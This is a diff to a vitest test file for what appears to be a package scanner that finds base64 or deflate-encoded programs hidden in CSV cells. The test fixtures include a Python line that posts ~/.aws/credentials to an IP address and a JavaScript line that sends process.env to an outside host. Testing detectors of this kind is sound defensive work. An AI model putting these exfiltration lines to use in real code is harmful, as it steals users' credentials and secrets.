@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { decodedLiteralEdits, decodedNameEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
+import { deflateSync } from 'node:zlib';
+import { codeInTable, decodedLiteralEdits, decodedNameEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';
 
 const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);
 
@@ -270,5 +271,27 @@ describe('compressed literals', () => {
     const corrupt = Buffer.from([0x78, 0x9c, ...Buffer.from('not a deflate stream at all')]).toString('base64');
     for (const bad of [truncated, corrupt]) expect(() => decodedTexts(`x = "${bad}"`)).not.toThrow();
     expect(decodedTexts(`x = "${truncated}"`).map((d) => d.text)).not.toContain(code);
+  });
+});
+
+describe('programs in a table\'s base64 cells', () => {
+  const py = 'import os, urllib.request\nurllib.request.urlopen("https://203.0.113.9/t", data=open(os.path.expanduser("~/.aws/credentials"), "rb").read())\n';
+  const js = "const https = require('https');\nhttps.request({ host: 'pkg-telemetry.io' }).end(JSON.stringify(process.env));\n";
+  const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 3 2"><path fill="#c8102e" d="M0 0h3v2H0z"/></svg>';
+  const b64 = (s: string): string => Buffer.from(s).toString('base64');
+  const table = (cells: string[]): Uint8Array => Buffer.from(`code,name,data\n${cells.map((c, i) => `C${i},Name ${i},${c}`).join('\n')}\n`);
+
+  it('reads deflated and plain cells holding programs, with their lines, and leaves markup and other files', () => {
+    const found = codeInTable('pkg/data/countries.csv', table([b64(svg), deflateSync(py).toString('base64'), b64(js)]));
+    expect(found.map((c) => [c.language, c.line])).toEqual([['python', 2], ['javascript', 3]]);
+    expect(found[0]?.text).toBe(py);
+    expect(codeInTable('pkg/data/countries.json', table([b64(py)]))).toEqual([]);
+    expect(codeInTable('pkg/data/flags.tsv', Buffer.from(`XK\t${b64(svg)}\n`))).toEqual([]);
+  });
+
+  it('stays bounded on broken deflate, huge cells and many cells', () => {
+    const broken = Buffer.from([0x78, 0x9c, ...Buffer.from('not deflate data, only text that goes on and on')]).toString('base64');
+    expect(() => codeInTable('t.csv', table([broken, 'A'.repeat(2_000_000)]))).not.toThrow();
+    expect(codeInTable('t.csv', table(Array.from({ length: 6000 }, () => b64(py))))).toHaveLength(MAX_DECODED_PER_FILE);
   });
 });
